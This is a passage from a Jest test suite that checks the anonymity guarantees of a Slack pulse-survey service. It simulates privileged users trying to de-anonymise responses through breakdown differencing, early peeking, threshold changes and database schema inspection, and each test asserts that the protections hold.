/**
 * An anonymity attack suite (docs/contract.md). The attacker holds an HR, admin or lead
 * credential and the API — and, for one part, read access to the database — and tries to learn
 * what one person answered: by differencing a breakdown against its total, peeking at an open
 * round, playing with k, linking rows in the database, reading logs and Slack, exporting CSV,
 * stepping outside their role or workspace, and replaying Slack requests.
 *
 * Each test asserts concrete values, so each one can fail.
 */
import { randomBytes } from 'node:crypto';
import request from 'supertest';
import { DataSource } from 'typeorm';
import { ResponsesService } from '../../src/pulse/responses.service';
import { eventually } from '../support/eventually';
import {
  deliveredTo,
  installSecondWorkspace,
  postSlack,
  pulseWorld,
  PulseWorld,
  slashPulse,
  submitModal,
  tapScore,
} from '../support/pulse-world';
import {
  blockActionsPayload,
  interactionBody,
  pulseAnswerPayload,
  signSlackRequest,
} from '../support/slack-signing';
import { TEST_SIGNING_SECRET } from '../support/test-app';

type Creds = Record<string, string>;

interface Figures {
  questionId: string;
  kind: string;
  prompt: string;
  n: number;
  mean: number | null;
  distribution: Record<string, number>;
  favorability: number | null;
  enps: number | null;
  suppressed: boolean;
}

interface Group {
  key: string;
  name: string;
  suppressed: boolean;
  respondents?: number;
  questions?: Figures[];
  comments?: { questionId: string; text: string }[];
}

interface Results {
  roundId: string;
  k: number;
  suppressed: boolean;
  respondents?: number;
  questions: Figures[];
  groups?: Group[];
  comments: { questionId: string; text: string }[];
  participation: { invited: number; responded: number; rate: number };
}

interface Question {
  id: string;
  kind: 'scale5' | 'enps' | 'text' | 'choice';
  prompt: string;
}

const K = 5;
const MODAL_QUESTIONS: Question[] = [
  { id: 'workload', kind: 'scale5', prompt: 'My workload this week was manageable' },
  { id: 'enps', kind: 'enps', prompt: 'How likely are you to recommend this team?' },
  { id: 'comment', kind: 'text', prompt: 'Anything you want HR to know?' },
];
const ONE_TAP_QUESTIONS: Question[] = [
  { id: 'mood', kind: 'scale5', prompt: 'I had the tools I needed today' },
];
const A_WORKLOAD = [5, 4, 4, 3, 5, 2, 4];
const A_ENPS = [10, 9, 8, 6, 9, 3, 10];
const B_WORKLOAD = [1, 2, 3];
const B_ENPS = [0, 5, 7];
/** Figure keys that would carry what people answered. */
const FIGURE_KEYS = ['n', 'mean', 'distribution', 'favorability', 'enps', 'respondents'];
const ROUND_DTO_KEYS = [
  'closedAt',
  'closesAt',
  'id',
  'invalidBallots',
  'k',
  'openedAt',
  'participation',
  'questionIds',
  'reminderSent',
  'status',
  'surveyId',
];
const CSV_HEADER = 'scope,team,question_id,prompt,n,mean,favorability,enps,distribution';

const sum = (xs: number[]) => xs.reduce((a, b) => a + b, 0);
const secret = (label: string) => `attack-${label}-${randomBytes(6).toString('hex')}`;

/** RFC 4180 lines (CRLF, quoted fields with doubled quotes) into cells. */
function parseCsv(text: string): string[][] {
  expect(text.endsWith('\r\n')).toBe(true);
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (c === '"') quoted = false;
      else cell += c;
    } else if (c === '"') quoted = true;
    else if (c === ',') {
      row.push(cell);
      cell = '';
    } else if (c === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else cell += c;
  }
  return rows;
}

/** Every (path, number) leaf of a JSON value. */
function numericLeaves(value: unknown, path = ''): [string, number][] {
  if (typeof value === 'number') return [[path, value]];
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([k, v]) => numericLeaves(v, `${path}.${k}`));
}

/** Every key used anywhere in a JSON value. */
function keysOf(value: unknown): string[] {
  if (value === null || typeof value !== 'object') return [];
  return Object.entries(value).flatMap(([k, v]) => [k, ...keysOf(v)]);
}

/**
 * The differencing attack on a breakdown: total − shown groups = what the hidden groups hold.
 * Asserts the hidden part always pools at least k respondents over at least two groups, for the
 * whole breakdown and for every figure question; returns what the attacker can see.
 */
function differencingAttack(res: Results): { hidden: string[]; residue: number } {
  const groups = res.groups ?? [];
  const shown = groups.filter((g) => !g.suppressed);
  const hidden = groups.filter((g) => g.suppressed);
  for (const g of hidden) expect(Object.keys(g).sort()).toEqual(['key', 'name', 'suppressed']);
  const residue = (res.respondents ?? 0) - sum(shown.map((g) => g.respondents ?? 0));
  if (hidden.length > 0) {
    expect(hidden.length).toBeGreaterThanOrEqual(2);
    expect(residue).toBeGreaterThanOrEqual(res.k);
  }
  for (const q of res.questions.filter((x) => x.kind !== 'text' && !x.suppressed)) {
    const shownQ = shown
      .map((g) => g.questions!.find((x) => x.questionId === q.questionId)!)
      .filter((x) => !x.suppressed);
    const hiddenQ = groups.length - shownQ.length;
    const residueN = q.n - sum(shownQ.map((x) => x.n));
    if (hiddenQ > 0) {
      expect(hiddenQ).toBeGreaterThanOrEqual(2);
      expect(residueN).toBeGreaterThanOrEqual(res.k);
    }
    // What the attacker derives: the pooled distribution of the hidden part, never one group's.
    const derived = Object.keys(q.distribution).map(
      (v) => q.distribution[v] - sum(shownQ.map((x) => x.distribution[v])),
    );
    for (const count of derived) expect(count).toBeGreaterThanOrEqual(0);
    expect(sum(derived)).toBe(residueN);
  }
  return { hidden: hidden.map((g) => g.name).sort(), residue };
}

describe('pulse anonymity under attack', () => {
  let w: PulseWorld;
  let ds: DataSource;
  let admin: Creds;
  const leads = new Map<string, Creds>();

  beforeAll(async () => {
    // The most verbose logging an operator could turn on: the contract holds at every level.
    w = await pulseWorld(
      { alpha: 7, bravo: 5, charlie: 6 },
      { app: { env: { LOG_LEVEL: 'trace' } } },
    );
    ds = w.t.app.get(DataSource);
    admin = { ...w.admin, 'X-Pulsedesk-Workspace': w.teamId };
  });

  afterAll(async () => {
    await w?.close();
  });

  async function createSurvey(
    title: string,
    questions: Question[],
    teams: string[],
  ): Promise<string> {
    const res = await request(w.t.url)
      .post('/api/surveys')
      .set(admin)
      .send({ title, questions, audienceTeamIds: teams.map((t) => w.teamIds[t]) })
      .expect(201);
    return res.body.id;
  }

  /** Opens a round and waits until every invitee has their DM. */
  async function openRound(surveyId: string, invited: number): Promise<string> {
    const res = await request(w.t.url)
      .post(`/api/surveys/${surveyId}/rounds`)
      .set(admin)
      .expect(201);
    expect(res.body.invited).toBe(invited);
    await deliveredTo(w, res.body.id, invited);
    return res.body.id;
  }

  async function answer(
    roundId: string,
    user: string,
    workload: number,
    enps: number,
    comment = '',
  ): Promise<void> {
    const res = await submitModal(w, user, roundId, {
      workload: { kind: 'scale5', value: String(workload) },
      enps: { kind: 'enps', value: String(enps) },
      comment: { kind: 'text', value: comment },
    }).expect(200);
    // A recorded answer is a bare ack; anything else is a field error.
    expect(res.body).toEqual({});
  }

  async function closeRound(roundId: string): Promise<void> {
    await request(w.t.url).post(`/api/rounds/${roundId}/close`).set(admin).expect(200);
  }

  async function results(
    roundId: string,
    opts: { groupBy?: boolean; as?: Creds } = {},
  ): Promise<Results> {
    const res = await request(w.t.url)
      .get(`/api/rounds/${roundId}/results${opts.groupBy ? '?groupBy=team' : ''}`)
      .set(opts.as ?? admin)
      .expect(200);
    return res.body as Results;
  }

  async function csv(roundId: string, as: Creds = admin): Promise<string[][]> {
    const res = await request(w.t.url)
      .get(`/api/rounds/${roundId}/results.csv?groupBy=team`)
      .set(as)
      .expect(200)
      .expect('Content-Type', /text\/csv/);
    return parseCsv(res.text);
  }

  async function participation(roundId: string): Promise<{ invited: number; responded: number }> {
    const res = await request(w.t.url).get(`/api/rounds/${roundId}`).set(admin).expect(200);
    return res.body.participation;
  }

  async function setThreshold(k: number): Promise<void> {
    const res = await request(w.t.url)
      .patch('/api/settings')
      .set(admin)
      .send({ anonymityThreshold: k })
      .expect(200);
    expect(res.body.anonymityThreshold).toBe(k);
  }

  async function leadOf(team: string): Promise<Creds> {
    const cached = leads.get(team);
    if (cached) return cached;
    const res = await request(w.t.url)
      .post('/api/tokens')
      .set(admin)
      .send({ name: `lead of ${team}`, role: 'lead', teamId: w.teamIds[team] })
      .expect(201);
    const creds = { Authorization: `Bearer ${res.body.token}` };
    leads.set(team, creds);
    return creds;
  }

  const figures = (res: Results | Group, id: string) =>
    res.questions!.find((q) => q.questionId === id)!;
  const group = (res: Results, name: string) => res.groups!.find((g) => g.name === name)!;

  // -----------------------------------------------------------------------------------------
  describe('differencing a breakdown against its total', () => {
    let round73: string;
    let round736: string;
    let forged: Record<string, unknown>;
    const comments736 = { alpha: secret('alpha'), bravo: secret('bravo'), charlie: secret('ch') };

    beforeAll(async () => {
      const two = await createSurvey('Two teams', MODAL_QUESTIONS, ['alpha', 'bravo']);
      round73 = await openRound(two, 12);
      for (const [i, u] of w.members.alpha.entries())
        await answer(round73, u, A_WORKLOAD[i], A_ENPS[i]);
      for (const [i, u] of w.members.bravo.slice(0, 3).entries())
        await answer(round73, u, B_WORKLOAD[i], B_ENPS[i]);
      await closeRound(round73);

      const three = await createSurvey('Three teams', MODAL_QUESTIONS, [
        'alpha',
        'bravo',
        'charlie',
      ]);
      round736 = await openRound(three, 18);
      for (const [i, u] of w.members.alpha.entries())
        await answer(round736, u, A_WORKLOAD[i], A_ENPS[i], i === 0 ? comments736.alpha : '');
      for (const [i, u] of w.members.bravo.slice(0, 3).entries())
        await answer(round736, u, B_WORKLOAD[i], B_ENPS[i], i === 0 ? comments736.bravo : '');
      for (const [i, u] of w.members.charlie.entries())
        await answer(round736, u, 3, 8, i === 0 ? comments736.charlie : '');
      // A forged submission leaving out a scored question, to make per-question n differ.
      forged = (
        await submitModal(w, w.members.bravo[3], round736, {
          workload: { kind: 'scale5', value: '1' },
          comment: { kind: 'text', value: 'forged partial answer' },
        }).expect(200)
      ).body;
      await closeRound(round736);
    });

    it('teams answering 7 and 3: the total is shown and both teams are suppressed', async () => {
      const total = await results(round73);
      const breakdown = await results(round73, { groupBy: true });
      expect(total).toMatchObject({ suppressed: false, respondents: 10, k: K });
      expect(breakdown.respondents).toBe(10);
      expect(figures(breakdown, 'workload')).toEqual(figures(total, 'workload'));
      expect(breakdown.groups).toEqual([
        { key: w.teamIds.alpha, name: 'alpha', suppressed: true },
        { key: w.teamIds.bravo, name: 'bravo', suppressed: true },
      ]);
      expect(differencingAttack(breakdown)).toEqual({ hidden: ['alpha', 'bravo'], residue: 10 });
    });

    it('teams answering 7, 3 and 6: the 3 and the 6 are hidden, total − the 7 pools 9 ≥ k', async () => {
      const res = await results(round736, { groupBy: true });
      expect(res.respondents).toBe(16);
      expect(group(res, 'alpha')).toMatchObject({ suppressed: false, respondents: 7 });
      expect(figures(group(res, 'alpha'), 'workload')).toMatchObject({ n: 7, mean: 3.86 });
      const attack = differencingAttack(res);
      expect(attack).toEqual({ hidden: ['bravo', 'charlie'], residue: 9 });
      // Per question as well: the round's n minus alpha's leaves the 9 hidden answers pooled.
      for (const id of ['workload', 'enps']) {
        expect(figures(res, id).n - figures(group(res, 'alpha'), id).n).toBe(9);
      }
      // Trends carry the very same breakdown: no second view to subtract from.
      const survey = (await request(w.t.url).get(`/api/rounds/${round736}`).set(admin)).body
        .surveyId;
      const trends = await request(w.t.url)
        .get(`/api/surveys/${survey}/trends?groupBy=team`)
        .set(admin)
        .expect(200);
      expect(trends.body.rounds).toHaveLength(1);
      // The figures only: comments are read round by round, never in bulk through trends.
      expect(trends.body.rounds[0].groups).toEqual(
        res.groups!.map(({ comments: _comments, ...g }) => g),
      );
      expect(JSON.stringify(trends.body)).not.toContain('"comments"');
    });

    it('per question: a forged partial answer is refused, so every figure has n = respondents; comments never per group while a group is hidden', async () => {
      expect(forged).toMatchObject({ response_action: 'errors' });
      expect(JSON.stringify(forged)).toMatch(/enps/);
      expect((await participation(round736)).responded).toBe(16);
      const res = await results(round736, { groupBy: true });
      for (const scope of [res, ...res.groups!.filter((g) => !g.suppressed)]) {
        for (const q of scope.questions!) {
          if (q.kind === 'text') {
            // Text carries a count of comments, never figures.
            expect(q).toMatchObject({ mean: null, distribution: {}, favorability: null });
          } else {
            expect(q.n).toBe(scope.respondents);
          }
        }
        if (scope !== res) expect(scope).not.toHaveProperty('comments');
      }
      expect(res.comments.map((c) => c.text).sort()).toEqual(Object.values(comments736).sort());
      expect(JSON.stringify(res.groups)).not.toContain('attack-');
      expect(JSON.stringify(res)).not.toContain('forged partial answer');
    });

    it('HR isolating one agent in a team of their own learns nothing about that agent', async () => {
      const target = w.members.charlie[0];
      const solo = (
        await request(w.t.url).post('/api/teams').set(admin).send({ name: 'solo' }).expect(201)
      ).body.id as string;
      await request(w.t.url)
        .patch(`/api/people/${target}`)
        .set(admin)
        .send({ teamId: solo })
        .expect(200);
      try {
        const survey = (
          await request(w.t.url)
            .post('/api/surveys')
            .set(admin)
            .send({
              title: 'Isolated',
              questions: MODAL_QUESTIONS,
              audienceTeamIds: [w.teamIds.charlie, solo],
            })
            .expect(201)
        ).body.id;
        const roundId = await openRound(survey, 6);
        const targetComment = secret('target');
        await answer(roundId, target, 1, 0, targetComment);
        for (const u of w.members.charlie.slice(1)) await answer(roundId, u, 4, 9);
        await closeRound(roundId);
        const res = await results(roundId, { groupBy: true });
        expect(res.respondents).toBe(6);
        expect(res.groups).toEqual([
          { key: w.teamIds.charlie, name: 'charlie', suppressed: true },
          { key: solo, name: 'solo', suppressed: true },
        ]);
        expect(differencingAttack(res)).toEqual({ hidden: ['charlie', 'solo'], residue: 6 });
        // Their comment is pooled with the round's, never attached to their one-person team.
        expect(res.comments.map((c) => c.text)).toEqual([targetComment]);
        const rows = await csv(roundId);
        expect(rows.filter((r) => r[1] === 'solo')).toEqual([
          ['team', 'solo', '', 'suppressed', '', '', '', '', ''],
        ]);
      } finally {
        await request(w.t.url)
          .patch(`/api/people/${target}`)
          .set(admin)
          .send({ teamId: w.teamIds.charlie })
          .expect(200);
      }
    });
  });

  // -----------------------------------------------------------------------------------------
  describe('peeking at a round before it closes', () => {
    it('an open round gives 409 for results, breakdown and CSV, trends skip it, and participation carries no values', async () => {
      const survey = await createSurvey('Peek', MODAL_QUESTIONS, ['alpha']);
      const closed = await openRound(survey, 7);
      for (const u of w.members.alpha.slice(0, 5)) await answer(closed, u, 2, 2);
      await closeRound(closed);
      const open = await openRound(survey, 7);
      const peekComment = secret('peek');
      for (const [i, u] of w.members.alpha.slice(0, 6).entries())
        await answer(open, u, 5, 10, i === 0 ? peekComment : '');

      for (const path of [
        `/api/rounds/${open}/results`,
        `/api/rounds/${open}/results?groupBy=team`,
        `/api/rounds/${open}/results.csv`,
        `/api/rounds/${open}/results.csv?groupBy=team`,
      ]) {
        for (const creds of [admin, await leadOf('alpha')]) {
          const res = await request(w.t.url).get(path).set(creds).expect(409);
          // The error is the usual JSON, whatever Content-Type the CSV route declared.
          const body = JSON.parse(res.text) as Record<string, unknown>;
          expect(Object.keys(body).sort()).toEqual(['error', 'message', 'statusCode']);
          expect(body.statusCode).toBe(409);
          expect(res.text).not.toContain(peekComment);
        }
      }
      const trends = await request(w.t.url)
        .get(`/api/surveys/${survey}/trends?groupBy=team`)
        .set(admin)
        .expect(200);
      expect(trends.body.rounds.map((r: Results) => r.roundId)).toEqual([closed]);
      expect(JSON.stringify(trends.body)).not.toContain(peekComment);

      const round = await request(w.t.url).get(`/api/rounds/${open}`).set(admin).expect(200);
      expect(Object.keys(round.body).sort()).toEqual(ROUND_DTO_KEYS);
      expect(round.body).toMatchObject({
        status: 'open',
        participation: { invited: 7, responded: 6, rate: 0.857 },
      });
      const surveyView = await request(w.t.url).get(`/api/surveys/${survey}`).set(admin);
      for (const body of [round.body, surveyView.body]) {
        expect(keysOf(body)).not.toEqual(
          expect.arrayContaining([expect.stringMatching(/^(mean|distribution|enps|comments)$/)]),
        );
        expect(JSON.stringify(body)).not.toContain(peekComment);
      }
    });

    it('a round closed with fewer than k respondents shows no numbers at all, in JSON or CSV', async () => {
      const survey = await createSurvey('Too few', MODAL_QUESTIONS, ['alpha']);
      const roundId = await openRound(survey, 7);
      const few = secret('few');
      for (const [i, u] of w.members.alpha.slice(0, 4).entries())
        await answer(roundId, u, 1 + i, 7 + i, few);
      await closeRound(roundId);

      const trends = await request(w.t.url)
        .get(`/api/surveys/${survey}/trends?groupBy=team`)
        .set(admin)
        .expect(200);
      for (const res of [
        await results(roundId),
        await results(roundId, { groupBy: true }),
        trends.body.rounds[0] as Results,
      ]) {
        expect(res).toMatchObject({ suppressed: true, questions: [], k: K });
        expect(res.comments ?? []).toEqual([]);
        expect(res).not.toHaveProperty('respondents');
        expect(res.groups ?? []).toEqual(
          res.groups ? [{ key: w.teamIds.alpha, name: 'alpha', suppressed: true }] : [],
        );
        expect(keysOf(res).filter((k) => FIGURE_KEYS.includes(k))).toEqual([]);
        // The only numbers left: k, and participation (which may be live anyway).
        const numbers = numericLeaves(res).filter(
          ([path]) => path !== '.k' && !path.startsWith('.participation.'),
        );
        expect(numbers).toEqual([]);
        expect(res.participation).toEqual({ invited: 7, responded: 4, rate: 0.571 });
        expect(JSON.stringify(res)).not.toContain(few);
      }

      const rows = await csv(roundId);
      expect(rows).toEqual([
        CSV_HEADER.split(','),
        ['round', '', '', `suppressed: fewer than ${K} respondents`, '', '', '', '', ''],
        ['team', 'alpha', '', 'suppressed', '', '', '', '', ''],
      ]);
    });
  });

  // -----------------------------------------------------------------------------------------
  describe('changing k after the fact', () => {
    afterEach(async () => {
      await setThreshold(K);
    });

    it('raising the workspace threshold after close raises the round’s k: groups shown before become suppressed', async () => {
      const survey = await createSurvey('Raise k', MODAL_QUESTIONS, ['alpha', 'bravo', 'charlie']);
      const roundId = await openRound(survey, 18);
      for (const [i, u] of w.members.alpha.entries()) await answer(roundId, u, A_WORKLOAD[i], 9);
      for (const u of w.members.bravo) await answer(roundId, u, 2, 4);
      for (const u of w.members.charlie) await answer(roundId, u, 3, 8);
      await closeRound(roundId);

      const before = await results(roundId, { groupBy: true });
      expect(before.k).toBe(5);
      expect(before.groups!.map((g) => [g.name, g.suppressed])).toEqual([
        ['alpha', false],
        ['bravo', false],
        ['charlie', false],
      ]);
      expect(figures(group(before, 'bravo'), 'workload')).toMatchObject({ n: 5, mean: 2 });

      await setThreshold(6);
      const at6 = await results(roundId, { groupBy: true });
      expect(at6.k).toBe(6);
      expect(group(at6, 'bravo')).toEqual({
        key: w.teamIds.bravo,
        name: 'bravo',
        suppressed: true,
      });
      // Complementary: the next smallest (charlie, 6) goes too, alpha (7) stays.
      expect(group(at6, 'charlie').suppressed).toBe(true);
      expect(group(at6, 'alpha')).toMatchObject({ suppressed: false, respondents: 7 });
      expect(differencingAttack(at6)).toEqual({ hidden: ['bravo', 'charlie'], residue: 11 });
      const round = await request(w.t.url).get(`/api/rounds/${roundId}`).set(admin).expect(200);
      expect(round.body.k).toBe(6);
      const rows = await csv(roundId);
      expect(rows.filter((r) => r[1] === 'bravo')).toEqual([
        ['team', 'bravo', '', 'suppressed', '', '', '', '', ''],
      ]);

      await setThreshold(8);
      const at8 = await results(roundId, { groupBy: true });
      expect(at8.groups!.every((g) => g.suppressed)).toBe(true);
      expect(at8.respondents).toBe(18);

      await setThreshold(19);
      const at19 = await results(roundId, { groupBy: true });
      expect(at19).toMatchObject({ k: 19, suppressed: true, questions: [], comments: [] });
      expect(at19).not.toHaveProperty('respondents');
    });

    it('lowering the workspace threshold never lowers a round below the k it opened with', async () => {
      await setThreshold(6);
      const survey = await createSurvey('Opened at six', MODAL_QUESTIONS, ['alpha', 'bravo']);
      const roundId = await openRound(survey, 12);
      const dm = w.slack.messages(w.slack.dmChannelId(w.teamId, w.members.bravo[0]));
      expect(JSON.stringify(dm[dm.length - 1].blocks)).toContain('at least 6 people');
      for (const u of w.members.alpha) await answer(roundId, u, 4, 9);
      for (const u of w.members.bravo) await answer(roundId, u, 1, 0);
      await closeRound(roundId);

      await setThreshold(3);
      const res = await results(roundId, { groupBy: true });
      expect(res.k).toBe(6);
      // Bravo's 5 would show at k = 3 or 5; the round opened at 6, so it (and alpha) stay hidden.
      expect(res.groups).toEqual([
        { key: w.teamIds.alpha, name: 'alpha', suppressed: true },
        { key: w.teamIds.bravo, name: 'bravo', suppressed: true },
      ]);
      const round = await request(w.t.url).get(`/api/rounds/${roundId}`).set(admin).expect(200);
      expect(round.body.k).toBe(6);
      const rows = await csv(roundId);
      expect(rows.slice(-2)).toEqual([
        ['team', 'alpha', '', 'suppressed', '', '', '', '', ''],
        ['team', 'bravo', '', 'suppressed', '', '', '', '', ''],
      ]);
      // And below the floor nothing can be configured at all.
      await request(w.t.url)
        .patch('/api/settings')
        .set(admin)
        .send({ anonymityThreshold: 2 })
        .expect(400);
    });
  });

  // -----------------------------------------------------------------------------------------
  describe('trends built once and reused', () => {
    afterEach(async () => {
      await setThreshold(K);
    });

    async function trends(
      surveyId: string,
      opts: { groupBy?: boolean; as?: Creds; query?: string } = {},
    ): Promise<{ rounds: Results[]; etag: string }> {
      const res = await request(w.t.url)
        .get(
          `/api/surveys/${surveyId}/trends?${opts.groupBy ? 'groupBy=team&' : ''}${opts.query ?? ''}`,
        )
        .set(opts.as ?? admin)
        .expect(200)
        .expect('Content-Type', /^application\/json/);
      return { rounds: res.body.rounds, etag: res.headers.etag };
    }

    async function rename(team: string, name: string): Promise<void> {
      await request(w.t.url)
        .patch(`/api/teams/${w.teamIds[team]}`)
        .set(admin)
        .send({ name })
        .expect(200);
    }

    it('follow k, team names and rounds closing, and give each lead their own team only', async () => {
      const survey = await createSurvey('Trends reused', MODAL_QUESTIONS, [
        'alpha',
        'bravo',
        'charlie',
      ]);
      const first = await openRound(survey, 18);
      for (const [i, u] of w.members.alpha.entries()) await answer(first, u, A_WORKLOAD[i], 9);
      for (const u of w.members.bravo) await answer(first, u, 2, 4);
      for (const u of w.members.charlie) await answer(first, u, 3, 8);
      await closeRound(first);

      const shown = await trends(survey, { groupBy: true });
      expect(shown.rounds.map((r) => r.roundId)).toEqual([first]);
      expect(shown.rounds[0].groups!.map((g) => [g.name, g.suppressed])).toEqual([
        ['alpha', false],
        ['bravo', false],
        ['charlie', false],
      ]);
      // Served again as the same text, and as 304 to a client that has it.
      const again = await trends(survey, { groupBy: true });
      expect(again).toEqual(shown);
      await request(w.t.url)
        .get(`/api/surveys/${survey}/trends?groupBy=team`)
        .set({ ...admin, 'If-None-Match': shown.etag })
        .expect(304);

      // Raising k after close: the reused trends must not keep showing bravo (5) or charlie (6).
      await setThreshold(6);
      const at6 = await trends(survey, { groupBy: true });
      expect(at6.etag).not.toBe(shown.etag);
      expect(at6.rounds[0].k).toBe(6);
      expect(at6.rounds[0].groups!.map((g) => [g.name, g.suppressed])).toEqual([
        ['alpha', false],
        ['bravo', true],
        ['charlie', true],
      ]);
      expect(group(at6.rounds[0], 'bravo')).toEqual({
        key: w.teamIds.bravo,
        name: 'bravo',
        suppressed: true,
      });
      const leadAt6 = await trends(survey, { as: await leadOf('bravo') });
      expect(leadAt6.rounds[0].groups).toEqual([
        { key: w.teamIds.bravo, name: 'bravo', suppressed: true },
      ]);
      await setThreshold(19);
      const at19 = await trends(survey);
      expect(at19.rounds[0]).toMatchObject({ k: 19, suppressed: true, questions: [] });
      expect(at19.rounds[0]).not.toHaveProperty('respondents');
      await setThreshold(K);
      expect(await trends(survey, { groupBy: true })).toEqual(shown);

      // Each lead reads their own team, whoever asked before them.
      for (const team of ['alpha', 'bravo', 'charlie', 'alpha']) {
        const mine = await trends(survey, { as: await leadOf(team), groupBy: true });
        expect(mine.rounds[0]).toMatchObject({ questions: [] });
        expect(mine.rounds[0]).not.toHaveProperty('respondents');
        expect(mine.rounds[0].groups!.map((g) => g.name)).toEqual([team]);
        expect(mine.rounds[0].groups![0]).toEqual(group(shown.rounds[0], team));
      }

      // A renamed team is published under its new name, by HR and to its lead.
      try {
        await rename('bravo', 'bravo renamed');
        const renamed = await trends(survey, { groupBy: true });
        expect(renamed.rounds[0].groups!.map((g) => g.name)).toEqual([
          'alpha',
          'bravo renamed',
          'charlie',
        ]);
        const lead = await trends(survey, { as: await leadOf('bravo') });
        expect(lead.rounds[0].groups!.map((g) => g.name)).toEqual(['bravo renamed']);
      } finally {
        await rename('bravo', 'bravo');
      }

      // A round that closes joins the trends at once; one still open never does.
      const second = await openRound(survey, 18);
      for (const u of w.members.alpha.slice(0, 6)) await answer(second, u, 1, 0);
      expect((await trends(survey, { groupBy: true })).rounds.map((r) => r.roundId)).toEqual([
        first,
      ]);
      await closeRound(second);
      const both = await trends(survey, { groupBy: true });
      expect(both.rounds.map((r) => r.roundId)).toEqual([first, second]);
      expect(both.rounds[1]).toMatchObject({ suppressed: false, respondents: 6 });
      // Only alpha answered: the other teams are absent, alpha is shown (6 ≥ k).
      expect(both.rounds[1].groups!.map((g) => [g.name, g.suppressed])).toEqual([['alpha', false]]);
      const bravoLead = await trends(survey, { as: await leadOf('bravo') });
      expect(bravoLead.rounds.map((r) => r.groups)).toEqual([
        [group(shown.rounds[0], 'bravo')],
        [],
      ]);
      // A range selects whole rounds; each range is its own body.
      const firstOpened = (
        await request(w.t.url).get(`/api/rounds/${second}`).set(admin).expect(200)
      ).body.openedAt as string;
      const fromSecond = await trends(survey, {
        query: `from=${encodeURIComponent(firstOpened)}`,
      });
      expect(fromSecond.rounds.map((r) => r.roundId)).toEqual([second]);
      expect((await trends(survey)).rounds.map((r) => r.roundId)).toEqual([first, second]);
      expect(JSON.stringify(both)).not.toContain('"comments"');
    });
  });

  // -----------------------------------------------------------------------------------------
  describe('linking a response to a person with read access to the database', () => {
    let roundId: string;
    const dbComment = secret('db');
    /** Slack user id → eNPS answered (all different), in the order they answered. */
    const answered: [string, number][] = [];
    let invitationsBefore: Record<string, unknown>[];
    let invitationsAfter: Record<string, unknown>[];

    const invitations = (): Promise<Record<string, unknown>[]> =>
      ds.query(
        `SELECT row_to_json(i) AS row FROM round_invitations i WHERE round_id = $1 ORDER BY person_id`,
        [roundId],
      );

    beforeAll(async () => {
      const survey = await createSurvey('Database', MODAL_QUESTIONS, ['alpha', 'bravo']);
      roundId = await openRound(survey, 12);
      invitationsBefore = await invitations();
      const who = [...w.members.bravo.slice(0, 3), ...w.members.alpha];
      for (const [i, u] of who.entries()) {
        await answer(roundId, u, 1 + (i % 5), i, i % 3 === 0 ? `${dbComment}-${i}` : '');
        answered.push([u, i]);
      }
      invitationsAfter = await invitations();
    });

    it('ballots, responses and answers have no column for a person, Slack id, email or time, and no key to people', async () => {
      const columns: { table_name: string; column_name: string; data_type: string }[] =
        await ds.query(
          `SELECT table_name, column_name, data_type FROM information_schema.columns
            WHERE table_schema = 'public' AND table_name IN ('ballots', 'responses', 'answers')
            ORDER BY table_name, column_name`,
        );
      expect(columns.map((c) => `${c.table_name}.${c.column_name}`)).toEqual([
        'answers.comment',
        'answers.question_id',
        'answers.response_id',
        'answers.round_id',
        'answers.team_id',
        'answers.value',
        'ballots.id',
        'ballots.round_id',
        'ballots.sealed',
        'responses.id',
        'responses.round_id',
        'responses.team_id',
      ]);
      for (const c of columns) {
        expect(c.data_type).not.toMatch(/time|date|interval/);
        expect(c.column_name).not.toMatch(
          /user|person|people|slack|email|created|updated|_at$|_on$|time|ts$/,
        );
      }
      const references: { table_name: string; referenced: string }[] = await ds.query(
        `SELECT tc.table_name, ccu.table_name AS referenced
           FROM information_schema.table_constraints tc
           JOIN information_schema.constraint_column_usage ccu
             ON ccu.constraint_name = tc.constraint_name AND ccu.table_schema = tc.table_schema
          WHERE tc.constraint_type = 'FOREIGN KEY' AND tc.table_schema = 'public'
            AND tc.table_name IN ('ballots', 'responses', 'answers')`,
      );
      for (const r of references) expect(['rounds', 'responses']).toContain(r.referenced);
      // Random (version 4) keys: no time-ordered UUID (v1, v6, v7) to sort ballots by.
      const ids: { id: string }[] = await ds.query(
        `SELECT id::text FROM ballots WHERE round_id = $1`,
        [roundId],
      );
      expect(ids).toHaveLength(10);
      for (const { id } of ids)
        expect(id).toMatch(/^[0-9a-f]{8}-[0-9a-f]{4}-4[0-9a-f]{3}-[89ab][0-9a-f]{3}-[0-9a-f]{12}$/);
    });

    it('participation records whether, never what or when: answering flips the responded flag and nothing else', async () => {
      const columns: { column_name: string; data_type: string }[] = await ds.query(
        `SELECT column_name, data_type FROM information_schema.columns
          WHERE table_schema = 'public' AND table_name = 'round_invitations' ORDER BY column_name`,
      );
      expect(columns.map((c) => `${c.column_name}:${c.data_type}`)).toEqual([
        'deliver_after:timestamp with time zone',
        'delivered_at:timestamp with time zone',
        'dm_channel:character varying',
        'dm_ts:character varying',
        'person_id:uuid',
        'reminded_at:timestamp with time zone',
        'responded:boolean',
        'round_id:uuid',
      ]);
      const respondents = new Set(
        (
          await ds.query(`SELECT id FROM people WHERE slack_user_id = ANY($1)`, [
            answered.map(([u]) => u),
          ])
        ).map((r: { id: string }) => r.id),
      );
      expect(invitationsAfter).toHaveLength(12);
      for (const [i, { row }] of invitationsAfter.entries()) {
        const after = row as Record<string, unknown>;
        const before = invitationsBefore[i].row as Record<string, unknown>;
        expect(after).toEqual({ ...before, responded: respondents.has(after.person_id) });
      }
    });

    it('no value other than the round id appears both in a participation row and in a response or answer row', async () => {
      const values = async (sql: string, drop: string[]) => {
        const rows: { row: Record<string, unknown> }[] = await ds.query(sql, [roundId]);
        return new Set(
          rows.flatMap(({ row }) =>
            Object.entries(row)
              .filter(([k, v]) => !drop.includes(k) && v !== null)
              .map(([, v]) => String(v)),
          ),
        );
      };
      const participationValues = await values(
        `SELECT row_to_json(i) AS row FROM round_invitations i WHERE round_id = $1`,
        ['round_id'],
      );
      // Who the invitees are: ids, Slack ids, names, emails.
      const identities = await values(
        `SELECT json_build_object('id', p.id, 'slack', p.slack_user_id, 'name', p.name,
                                  'real', p.real_name, 'email', p.email) AS row
